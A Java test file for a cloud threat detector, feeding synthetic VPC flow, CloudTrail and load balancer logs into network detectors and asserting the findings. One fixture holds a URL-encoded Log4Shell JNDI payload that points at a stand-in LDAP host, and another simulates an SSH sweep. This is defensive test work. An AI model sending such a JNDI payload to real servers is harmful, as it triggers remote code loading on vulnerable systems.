package dev.kumo.detector.network;

import static dev.kumo.testing.CloudTrailEvents.event;
import static dev.kumo.testing.CloudTrailEvents.instanceRole;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.kumo.detector.DetectorConfig;
import dev.kumo.event.NormalizedEvent;
import dev.kumo.finding.Finding;
import dev.kumo.intel.Intel;
import dev.kumo.sigma.Level;
import dev.kumo.testing.CloudTrailEvents;
import dev.kumo.testing.DetectorHarness;
import dev.kumo.testing.SharedData;
import dev.kumo.testing.SourceTesting;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/** The network detectors over records read through the real VPC flow log, Route 53 Resolver and ELB sources. */
class NetworkSourcesTest {
  private static final Intel INTEL = Intel.builtin();

  private static DetectorHarness all() {
    DetectorConfig d = DetectorConfig.DEFAULTS;
    return DetectorHarness.of(new OutboundScanDetector(d, INTEL), new OutboundFloodDetector(d, INTEL),
        new EgressSpikeDetector(d, INTEL), new MiningPoolDetector(d, INTEL), new ExploitThenRoleActivityDetector(d, INTEL));
  }

  private static List<NormalizedEvent> read(String name, String text) {
    SourceTesting.Read r = SourceTesting.read(name, text.getBytes(UTF_8));
    assertThat(r.problems()).isEmpty();
    return new ArrayList<>(r.events());
  }

  @Test
  void sshSweepInDefaultFormatFlowLogText_fires() {
    StringBuilder text = new StringBuilder();
    long start = 1_773_136_800L; // 2026-03-10T10:00:00Z
    for (int i = 0; i < 25; i++) {
      text.append("2 111122223333 eni-0a1b2c3d4e5f60718 10.0.1.5 45.").append(20 + i).append(".3.9 ")
          .append(41_000 + i).append(" 22 6 2 120 ").append(start + 10L * i).append(' ').append(start + 10L * i + 60)
          .append(" ACCEPT OK\n");
    }
    List<NormalizedEvent> events = read("111122223333_vpcflowlogs_us-east-1_fl-0abc_20260310T1000Z_ab12.log", text.toString());
    assertThat(events).allSatisfy(e -> assertThat(e.source()).isEqualTo("aws.vpcflow"));

    assertThat(all().run(events)).singleElement().satisfies(x -> {
      assertThat(x.ruleName()).isEqualTo(OutboundScanDetector.NAME);
      assertThat(x.level()).isEqualTo(Level.HIGH);
      assertThat(x.reason()).startsWith("10.0.1.5 (eni-0a1b2c3d4e5f60718) reached SSH/Telnet/RDP on 25 external networks");
    });
  }

  @Test
  void exploitThroughTheLoadBalancerThenNewRoleApi_fires() {
    String web = "i-0a1b2c3d4e5f60718";
    List<NormalizedEvent> events = new ArrayList<>();
    events.addAll(read("flows.log", "version account-id interface-id instance-id srcaddr dstaddr srcport dstport "
        + "protocol packets bytes start end action log-status\n"
        + "5 111122223333 eni-0a1b2c3d4e5f60718 " + web + " 10.0.1.25 52.216.8.10 40001 443 6 12 5000 1773050400 "
        + "1773050460 ACCEPT OK\n"));
    List<String> trail = new ArrayList<>();
    for (int h = 0; h < 24; h++) {
      trail.add(event().identity(instanceRole("web-role", web)).ip("10.0.1.25").call("s3.amazonaws.com", "GetObject")
          .time(String.format("2026-03-09T%02d:30:00Z", h)).json());
    }
    trail.add(event().identity(instanceRole("web-role", web)).ip("10.0.1.25").call("sts.amazonaws.com",
        "GetCallerIdentity").time("2026-03-10T10:05:00Z").id("whoami").json());
    events.addAll(CloudTrailEvents.parse(trail));
    events.addAll(read("alb.log", "https 2026-03-10T10:00:00.318211Z app/shop-prod/50dc6c495c0c9188 "
        + "198.51.100.23:51822 10.0.1.25:8080 0.001 0.014 0.000 200 200 412 3810 "
        + "\"GET https://shop.example.com:443/?q=$%7Bjndi:ldap://198.51.100.9/a%7D HTTP/1.1\" \"Mozilla/5.0\"\n"));

    assertThat(all().run(events)).singleElement().satisfies(x -> {
      assertThat(x.ruleName()).isEqualTo(ExploitThenRoleActivityDetector.NAME);
      assertThat(x.level()).isEqualTo(Level.CRITICAL);
      assertThat(x.reason()).startsWith("Log4Shell JNDI Lookup in a Web Request: GET https://shop.example.com:443/?q=$%7Bjndi")
          .endsWith("4m 59s later its role assumed-role/web-role/" + web + " called 1 API it had never used: "
              + "sts:GetCallerIdentity");
      assertThat(x.evidence()).hasSize(2).endsWith("whoami");
    });
  }

  /** Panther's VPC flow rule tests and AWS's documented flow records: single ordinary flows, nothing to report. */
  @Test
  void pantherAndAwsDocumentationFlowRecords_raiseNothing() throws Exception {
    List<NormalizedEvent> events = new ArrayList<>(SourceTesting.read("flows.jsonl",
        SourceTesting.pantherLogsAsJsonLines("tests_AWS.VPCFlow.jsonl.gz")).events());
    Path doc = SharedData.require("data/aws-docs-samples/vpc-flow-logs-records-examples.md");
    String lines = Files.readAllLines(doc).stream().filter(l -> l.matches("2 \\d{12} eni-.*"))
        .collect(Collectors.joining("\n", "", "\n"));
    events.addAll(read("docs.log", lines));
    assertThat(events).hasSizeGreaterThan(25);

    List<Finding> f = all().run(events);
    assertThat(f).isEmpty();
  }
}
